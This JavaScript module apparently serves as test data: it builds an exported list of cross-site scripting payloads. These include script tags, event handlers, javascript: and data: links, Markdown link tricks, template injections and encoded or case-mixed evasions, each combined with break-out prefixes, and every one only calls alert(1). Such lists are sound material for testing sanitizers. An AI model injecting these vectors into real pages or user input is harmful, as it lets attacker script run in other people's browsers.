// Texts that try to run in a reader's browser: each thing that runs, in each place that it might break out of.
// Each of them would open a dialog.

const RUNS = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)//",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<video autoplay><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
];
const BREAKS_OUT = ["", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "`", "\u0000"];
const ELSEWHERE = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](java\tscript:alert(1))",
  "![x](x\" onerror=\"alert(1))",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "＜script＞alert(1)＜/script＞",
];

export const PAYLOADS = [...RUNS.flatMap((runs) => BREAKS_OUT.map((out) => out + runs)), ...ELSEWHERE];
